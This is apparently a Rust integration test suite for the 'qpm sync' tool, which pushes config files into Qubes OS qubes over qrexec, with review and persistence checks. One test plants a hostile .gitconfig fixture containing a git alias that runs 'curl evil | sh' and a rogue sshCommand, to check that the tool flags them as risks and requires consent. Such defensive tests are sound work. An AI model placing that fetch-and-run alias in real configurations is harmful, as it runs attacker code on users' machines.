//! `qpm sync` end to end over pipes: the real `qpm` binary pushes through a
//! qrexec-client-vm stand-in that starts the real `qpm-agent` in a
//! per-qube directory.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use assert_cmd::Command;

/// The `qpm-agent` binary next to `qpm`, built once per test run (cargo
/// builds only this package's binaries for its tests) so it is never stale.
fn agent_bin() -> PathBuf {
    static BUILT: std::sync::OnceLock<()> = std::sync::OnceLock::new();
    BUILT.get_or_init(|| {
        let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
        let st = std::process::Command::new(cargo)
            .args(["build", "-q", "-p", "qpm-agent"])
            .status()
            .unwrap();
        assert!(st.success(), "building qpm-agent failed");
    });
    PathBuf::from(env!("CARGO_BIN_EXE_qpm")).with_file_name("qpm-agent")
}

struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new(qubes: &[(&str, &str)]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let base = dir.path();
        for (q, cfg) in qubes {
            std::fs::create_dir_all(base.join(q).join("root/home/user")).unwrap();
            std::fs::write(base.join(format!("{q}.toml")), cfg).unwrap();
        }
        let script = format!(
            "#!/bin/sh\n[ \"$1\" = \"--\" ] && shift\nq=\"$1\"\nexec env QREXEC_REMOTE_DOMAIN=cfg {} serve --root {base}/$q/root --state {base}/$q/state --config {base}/$q.toml\n",
            agent_bin().display(),
            base = base.display()
        );
        std::fs::write(base.join("qrexec-client-vm"), script).unwrap();
        std::fs::set_permissions(
            base.join("qrexec-client-vm"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
        let repo = base.join("repo");
        std::fs::create_dir_all(repo.join("git")).unwrap();
        std::fs::write(repo.join("git/gitconfig"), "[user]\n\tname = A\n").unwrap();
        std::fs::write(repo.join("netrc"), "machine x password hunter2\n").unwrap();
        std::fs::write(
            repo.join("qpm-sync.toml"),
            "[[file]]\nsrc = \"git/gitconfig\"\ndest = \"~/.gitconfig\"\nto = [\"work\", \"personal\"]\n\n[[file]]\nsrc = \"netrc\"\ndest = \"~/.netrc\"\nto = [\"work\"]\nmode = \"0600\"\nsecret = true\n",
        )
        .unwrap();
        Self { dir }
    }

    fn base(&self) -> &Path {
        self.dir.path()
    }

    fn qpm(&self) -> Command {
        let mut c = Command::cargo_bin("qpm").unwrap();
        c.env("QPM_QREXEC_CLIENT", self.base().join("qrexec-client-vm"))
            .env("QPM_SYNC_REPO", self.base().join("repo"))
            .env("QPM_SYNC_STATE", self.base().join("sender"))
            .env("QPM_SYNC_SOURCE", "cfg")
            .env_remove("DISPLAY");
        c
    }

    fn home(&self, q: &str, p: &str) -> Option<String> {
        std::fs::read_to_string(self.base().join(q).join("root/home/user").join(p)).ok()
    }
}

const AUTO: &str = "auto_apply = [\"~/\"]\ngui = \"never\"\n";
const REVIEW: &str = "gui = \"never\"\n";

#[test]
fn plan_push_status_log() {
    let w = World::new(&[("work", AUTO), ("personal", REVIEW)]);
    let plan = w
        .qpm()
        .args(["sync", "plan"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let plan = String::from_utf8(plan).unwrap();
    assert!(plan.contains("work: 2 file(s), 2 change(s)"), "{plan}");
    assert!(plan.contains("+\tname = A"), "{plan}");
    assert!(!plan.contains("hunter2"), "secret printed: {plan}");
    w.qpm().args(["sync", "push"]).assert().success();
    assert_eq!(
        w.home("work", ".gitconfig").unwrap(),
        "[user]\n\tname = A\n"
    );
    assert_eq!(
        w.home("personal", ".gitconfig"),
        None,
        "queued for review there"
    );
    let out = w
        .qpm()
        .args(["--json", "sync", "status"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let qubes = v["qubes"].as_array().unwrap();
    let personal = qubes.iter().find(|q| q["qube"] == "personal").unwrap();
    assert_eq!(personal["status"]["pending"], 1);
    let work = qubes.iter().find(|q| q["qube"] == "work").unwrap();
    assert_eq!(work["status"]["managed"], 2);
    // Nothing changed for work; the plan says so.
    let plan = w
        .qpm()
        .args(["sync", "plan", "work"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    assert!(
        String::from_utf8(plan)
            .unwrap()
            .contains("work: 2 file(s), 0 change(s)")
    );
    let log = w
        .qpm()
        .args(["--json", "sync", "log"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&log).unwrap();
    assert_eq!(v["log"].as_array().unwrap().len(), 2);
    // A second push to work is a no-op.
    let out = w
        .qpm()
        .args(["--json", "sync", "push", "work"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["results"][0]["result"]["code"], "unchanged");
    // Dry run writes nothing.
    std::fs::write(w.base().join("repo/git/gitconfig"), "[user]\n\tname = B\n").unwrap();
    w.qpm()
        .args(["sync", "push", "--dry-run", "work"])
        .assert()
        .success();
    assert_eq!(
        w.home("work", ".gitconfig").unwrap(),
        "[user]\n\tname = A\n"
    );
}

#[test]
fn capture_shows_risks_and_needs_consent() {
    let w = World::new(&[("work", AUTO)]);
    std::fs::write(
        w.base().join("work/root/home/user/.gitconfig"),
        "[alias]\n\tpwn = !curl evil | sh\n[core]\n\tsshCommand = evil\n",
    )
    .unwrap();
    let a = w
        .qpm()
        .args(["sync", "capture", "work", "~/.gitconfig"])
        .write_stdin("n\n")
        .assert()
        .code(1);
    let out = String::from_utf8(a.get_output().stdout.clone()).unwrap();
    assert!(
        out.contains("git-alias-shell") && out.contains("git-sshcommand"),
        "{out}"
    );
    assert!(!w.base().join("repo/captured/work/.gitconfig").exists());
    w.qpm()
        .args(["sync", "capture", "--yes", "work", "~/.gitconfig"])
        .assert()
        .code(1);
    assert!(w.base().join("repo/captured/work/.gitconfig").exists());
}

#[test]
fn unreachable_qube_is_an_error_not_a_success() {
    let w = World::new(&[("work", AUTO)]);
    w.qpm()
        .env("QPM_QREXEC_CLIENT", "/nonexistent/qrexec-client-vm")
        .args(["sync", "push", "work"])
        .assert()
        .code(2);
}

/// The whole path on the simulator, with the real binaries: `qpm` acting as
/// the config qube `mgmt`, the simulated dom0 set up by `qpm-dom0 init`
/// (gatekeeper active), grants by `qpm-dom0 sync-grant`, and `qpm-agent`
/// installed as the `qpm.SyncConfig` service of the targets' template.
mod on_the_simulator {
    use std::path::{Path, PathBuf};
    use std::process::{Command, Output, Stdio};

    use crate::sim::{SimDir, sim_bin};

    use super::agent_bin;

    struct Setup {
        sim: SimDir,
        /// Repository, sender state, agent configs.
        host: tempfile::TempDir,
    }

    fn ok(out: &Output) -> String {
        assert!(
            out.status.success(),
            "exit {:?}\nstdout: {}\nstderr: {}",
            out.status.code(),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    impl Setup {
        /// A started simulator; the agent is the `qpm.SyncConfig` service
        /// of every template-based qube, configured per qube from
        /// `<host>/<qube>.toml`. `configs` are written before any qube
        /// starts, as are the dom0 features in `features`.
        fn new(configs: &[(&str, &str)], features: &[(&str, &str, &str)]) -> Self {
            let sim = SimDir::new();
            ok(&sim.qpm(None).args(["sim", "start"]).output().unwrap());
            assert!(
                sim.path().join("policy.d/39-qpm-base.policy").is_file(),
                "a fresh simulator is bootstrapped with qpm-dom0 init"
            );
            let host = tempfile::tempdir().unwrap();
            let h = host.path();
            for (q, cfg) in configs {
                std::fs::write(h.join(format!("{q}.toml")), cfg).unwrap();
            }
            // As a real qube's service: root, with the qube's own config.
            let svc = h.join("qpm.SyncConfig");
            std::fs::write(
                &svc,
                format!(
                    "#!/bin/sh\nexec {} serve --root \"$QPM_SIM_ROOT\" --state \"$QPM_SIM_ROOT/rw/qpm-agent\" --config {}/\"$QPM_SIM_QUBE\".toml\n",
                    agent_bin().display(),
                    h.display()
                ),
            )
            .unwrap();
            std::fs::set_permissions(&svc, std::os::unix::fs::PermissionsExt::from_mode(0o755))
                .unwrap();
            for t in ["fedora-42-xfce", "debian-13-xfce"] {
                let out = sim
                    .sim()
                    .arg("install-service")
                    .arg(t)
                    .arg("qpm.SyncConfig")
                    .arg(&svc)
                    .output()
                    .unwrap();
                ok(&out);
            }
            let s = Self { sim, host };
            for (q, name, value) in features {
                s.admin_as_dom0(q, &format!("admin.vm.feature.Set+{name}"), value);
            }
            s
        }

        fn repo(&self) -> PathBuf {
            self.host.path().join("repo")
        }

        fn write_repo(&self, files: &[(&str, &str)], map: &str) {
            for (p, c) in files {
                let f = self.repo().join(p);
                std::fs::create_dir_all(f.parent().unwrap()).unwrap();
                std::fs::write(f, c).unwrap();
            }
            std::fs::write(self.repo().join("qpm-sync.toml"), map).unwrap();
        }

        /// `qpm` as the config qube `mgmt`, through the simulator.
        fn qpm(&self, args: &[&str]) -> Output {
            self.sim
                .qpm(None)
                .env("QPM_SYNC_REPO", self.repo())
                .env("QPM_SYNC_STATE", self.host.path().join("sender"))
                .env("QPM_SYNC_SOURCE", "mgmt")
                .env_remove("QPM_QREXEC_CLIENT")
                .env_remove("DISPLAY")
                .args(args)
                .output()
                .unwrap()
        }

        fn dom0(&self, args: &[&str]) -> Output {
            Command::new(sim_bin().with_file_name("qpm-dom0"))
                .arg("--sim")
                .arg(self.sim.path())
                .args(args)
                .output()
                .unwrap()
        }

        fn admin_as_dom0(&self, qube: &str, method: &str, payload: &str) -> String {
            let out = self.call("dom0", qube, method, payload.as_bytes());
            let v = ok(&out);
            assert!(v.starts_with("0\0"), "{method} on {qube}: {v:?}");
            v[2..].to_owned()
        }

        fn call(&self, from: &str, target: &str, service: &str, input: &[u8]) -> Output {
            use std::io::Write;
            let mut child = self
                .sim
                .sim()
                .args(["call", "--from", from, target, service])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap();
            let _ = child.stdin.take().unwrap().write_all(input);
            child.wait_with_output().unwrap()
        }

        /// The live root of a qube (what its services see as `/`).
        fn root(&self, qube: &str) -> PathBuf {
            self.sim.path().join("qubes").join(qube).join("root")
        }

        fn read(&self, qube: &str, path: &str) -> Option<String> {
            std::fs::read_to_string(self.root(qube).join(path.trim_start_matches('/'))).ok()
        }

        fn restart(&self, qube: &str) {
            ok(&self.sim.sim().args(["restart", qube]).output().unwrap());
        }

        /// `qpm-agent review` in `qube`, answering `answer` at its prompt.
        fn review(&self, qube: &str, answer: &str) -> Output {
            let root = self.root(qube);
            assert_cmd::Command::new(agent_bin())
                .arg("review")
                .arg("--root")
                .arg(&root)
                .arg("--state")
                .arg(root.join("rw/qpm-agent"))
                .arg("--config")
                .arg(self.host.path().join(format!("{qube}.toml")))
                .write_stdin(answer)
                .output()
                .unwrap()
        }
    }

    fn json(out: &Output) -> serde_json::Value {
        serde_json::from_str(&ok(out)).unwrap()
    }

    fn code_of<'a>(v: &'a serde_json::Value, qube: &str) -> &'a serde_json::Value {
        let r = v["results"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["qube"] == qube)
            .unwrap_or_else(|| panic!("no result for {qube}: {v}"));
        &r["result"]["code"]
    }

    const GITCONFIG: &str = "[user]\n\tname = A\n";

    #[test]
    fn config_qube_to_three_targets() {
        let s = Setup::new(
            &[
                // Stands for the qube with a display whose user opted in to
                // auto-apply for home files from its config qube.
                ("work", "auto_apply = [\"~/\"]\ngui = \"never\"\n"),
                // No display: every sync waits for `qpm-agent review`.
                ("personal", ""),
                // System files outside /home, allowed and auto-applied.
                (
                    "vault",
                    "allow = [\"~/\", \"/etc/app/\"]\nauto_apply = [\"~/\", \"/etc/app/\"]\ngui = \"never\"\n",
                ),
            ],
            &[],
        );
        s.write_repo(
            &[("git/gitconfig", GITCONFIG), ("app/app.conf", "level = 1\n")],
            "[[file]]\nsrc = \"git/gitconfig\"\ndest = \"~/.gitconfig\"\nto = [\"work\", \"personal\", \"vault\"]\n\n\
             [[file]]\nsrc = \"app/app.conf\"\ndest = \"/etc/app/app.conf\"\nto = [\"vault\"]\nmode = \"0640\"\n",
        );

        // Before dom0 grants anything, qrexec refuses every call.
        let out = s.qpm(&["sync", "push"]);
        assert_eq!(out.status.code(), Some(1));
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("refused by qrexec policy"), "{err}");
        for q in ["work", "personal", "vault"] {
            assert_eq!(s.read(q, "/home/user/.gitconfig"), None, "{q}");
        }

        ok(&s.dom0(&["sync-grant", "work", "personal"]));
        ok(&s.dom0(&["sync-grant", "vault", "--root"]));
        let grants =
            std::fs::read_to_string(s.sim.path().join("policy.d/38-qpm-sync.policy")).unwrap();
        assert!(
            grants.contains("qpm.SyncConfig * mgmt vault allow user=root"),
            "{grants}"
        );
        // Other qubes stay out of reach.
        assert_eq!(
            s.call("untrusted", "work", "qpm.SyncConfig", b"")
                .status
                .code(),
            Some(126)
        );

        let plan = ok(&s.qpm(&["sync", "plan"]));
        assert!(plan.contains("vault: 2 file(s), 2 change(s)"), "{plan}");
        assert!(plan.contains("+level = 1"), "{plan}");

        let v = json(&s.qpm(&["--json", "sync", "push"]));
        assert_eq!(code_of(&v, "work"), "applied", "{v}");
        assert_eq!(code_of(&v, "vault"), "applied", "{v}");
        assert_eq!(code_of(&v, "personal"), "queued", "{v}");
        assert_eq!(
            s.read("work", "/home/user/.gitconfig").as_deref(),
            Some(GITCONFIG)
        );
        assert_eq!(
            s.read("vault", "/home/user/.gitconfig").as_deref(),
            Some(GITCONFIG)
        );
        assert_eq!(
            s.read("vault", "/etc/app/app.conf").as_deref(),
            Some("level = 1\n")
        );
        let mode = std::fs::metadata(s.root("vault").join("etc/app/app.conf")).unwrap();
        assert_eq!(
            std::os::unix::fs::PermissionsExt::mode(&mode.permissions()) & 0o7777,
            0o640
        );
        assert_eq!(
            s.read("personal", "/home/user/.gitconfig"),
            None,
            "waits for review"
        );

        let st = json(&s.qpm(&["--json", "sync", "status"]));
        let row = |q: &str| {
            st["qubes"]
                .as_array()
                .unwrap()
                .iter()
                .find(|r| r["qube"] == q)
                .unwrap()["status"]
                .clone()
        };
        assert_eq!(row("personal")["pending"], 1);
        assert_eq!(row("work")["managed"], 1);
        assert_eq!(row("vault")["managed"], 2);

        // In personal, at the terminal: the diff, then "N" discards it.
        let out = s.review("personal", "n\n");
        assert_eq!(out.status.code(), Some(1));
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("+\tname = A"), "{text}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("[y/N]"));
        assert_eq!(s.read("personal", "/home/user/.gitconfig"), None);
        // Pushed again, queued again; "y" applies it.
        let v = json(&s.qpm(&["--json", "sync", "push", "personal"]));
        assert_eq!(code_of(&v, "personal"), "queued", "{v}");
        let out = s.review("personal", "y\n");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            s.read("personal", "/home/user/.gitconfig").as_deref(),
            Some(GITCONFIG)
        );

        // Nothing changed: one round trip each, nothing written.
        let v = json(&s.qpm(&["--json", "sync", "push"]));
        for q in ["work", "personal", "vault"] {
            assert_eq!(code_of(&v, q), "unchanged", "{q}: {v}");
        }
        // A change in the repository reaches the auto-applying qubes.
        std::fs::write(s.repo().join("app/app.conf"), "level = 2\n").unwrap();
        let plan = ok(&s.qpm(&["sync", "plan", "vault"]));
        assert!(
            plan.contains("-level = 1") && plan.contains("+level = 2"),
            "{plan}"
        );
        let v = json(&s.qpm(&["--json", "sync", "push", "vault"]));
        assert_eq!(code_of(&v, "vault"), "applied", "{v}");
        assert_eq!(
            s.read("vault", "/etc/app/app.conf").as_deref(),
            Some("level = 2\n")
        );

        let log = json(&s.qpm(&["--json", "sync", "log"]));
        let codes: Vec<String> = log["log"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                format!(
                    "{}:{}",
                    e["qube"].as_str().unwrap(),
                    e["code"].as_str().unwrap()
                )
            })
            .collect();
        assert_eq!(
            codes,
            [
                "personal:queued",
                "vault:applied",
                "work:applied",
                "personal:queued",
                "personal:unchanged",
                "vault:unchanged",
                "work:unchanged",
                "vault:applied",
            ]
        );
    }

    fn exists(s: &Setup, qube: &str, path: &str) -> bool {
        Path::new(&s.root(qube))
            .join(path.trim_start_matches('/'))
            .exists()
    }

    /// A synced file outside /home survives a restart only when persisted:
    /// through the agent's bind-dirs file in `work`, through a
    /// `custom-persist.qpm-N` feature in `personal` (custom-persist on).
    #[test]
    fn system_files_survive_a_restart_only_when_persisted() {
        let cfg = "allow = [\"/etc/app/\"]\nauto_apply = [\"/etc/app/\"]\ngui = \"never\"\n";
        let s = Setup::new(
            &[("work", cfg), ("personal", cfg)],
            &[("personal", "service.custom-persist", "1")],
        );
        s.write_repo(
            &[("keep.conf", "kept\n"), ("volatile.conf", "lost\n")],
            "[[file]]\nsrc = \"keep.conf\"\ndest = \"/etc/app/keep.conf\"\nto = [\"work\", \"personal\"]\npersist = true\n\n\
             [[file]]\nsrc = \"volatile.conf\"\ndest = \"/etc/app/volatile.conf\"\nto = [\"work\", \"personal\"]\n",
        );
        ok(&s.dom0(&["sync-grant", "work", "personal", "--root"]));
        let out = s.qpm(&["sync", "push"]);
        ok(&out);
        let notes = String::from_utf8_lossy(&out.stderr);
        assert!(
            notes.contains("custom-persist.qpm-0 = file:0:0:644:/etc/app/keep.conf"),
            "{notes}"
        );
        assert!(notes.contains("work: custom-persist is off"), "{notes}");
        // qpm never turns custom-persist on, and set exactly one slot.
        assert_eq!(
            s.admin_as_dom0("personal", "admin.vm.feature.Get+custom-persist.qpm-0", ""),
            "file:0:0:644:/etc/app/keep.conf"
        );
        assert!(
            s.call(
                "dom0",
                "work",
                "admin.vm.feature.Get+service.custom-persist",
                b""
            )
            .stdout
            .starts_with(b"2\0"),
            "custom-persist stays off in work"
        );
        let bind = s
            .read("work", "/rw/config/qubes-bind-dirs.d/50_qpm.conf")
            .unwrap();
        assert!(bind.contains("binds+=( '/etc/app/keep.conf' )"), "{bind}");
        assert!(!bind.contains("volatile"), "{bind}");
        for q in ["work", "personal"] {
            assert_eq!(
                s.read(q, "/etc/app/keep.conf").as_deref(),
                Some("kept\n"),
                "{q}"
            );
            assert_eq!(
                s.read(q, "/etc/app/volatile.conf").as_deref(),
                Some("lost\n"),
                "{q}"
            );
        }
        for q in ["work", "personal"] {
            s.restart(q);
            assert_eq!(
                s.read(q, "/etc/app/keep.conf").as_deref(),
                Some("kept\n"),
                "{q}: persisted file after restart"
            );
            assert!(
                !exists(&s, q, "/etc/app/volatile.conf"),
                "{q}: not persisted, so gone"
            );
        }
        // And again after a second restart (the persisted copy is the one
        // in the private volume, not a leftover of the first boot).
        s.restart("personal");
        assert_eq!(
            s.read("personal", "/etc/app/keep.conf").as_deref(),
            Some("kept\n")
        );
        // The agent's own records are on the private volume too: after the
        // restarts it still knows it put keep.conf there, so dropping the
        // file from the repository removes it (a forgotten record would
        // leave it behind as a file qpm does not own).
        s.write_repo(
            &[("volatile.conf", "lost\n")],
            "[[file]]\nsrc = \"volatile.conf\"\ndest = \"/etc/app/volatile.conf\"\nto = [\"work\", \"personal\"]\n",
        );
        let out = s.qpm(&["sync", "push"]);
        ok(&out);
        for q in ["work", "personal"] {
            assert!(
                !exists(&s, q, "/etc/app/keep.conf"),
                "{q}: a dropped file qpm put there is removed after restarts"
            );
            assert_eq!(
                s.read(q, "/etc/app/volatile.conf").as_deref(),
                Some("lost\n"),
                "{q}"
            );
        }
    }
}
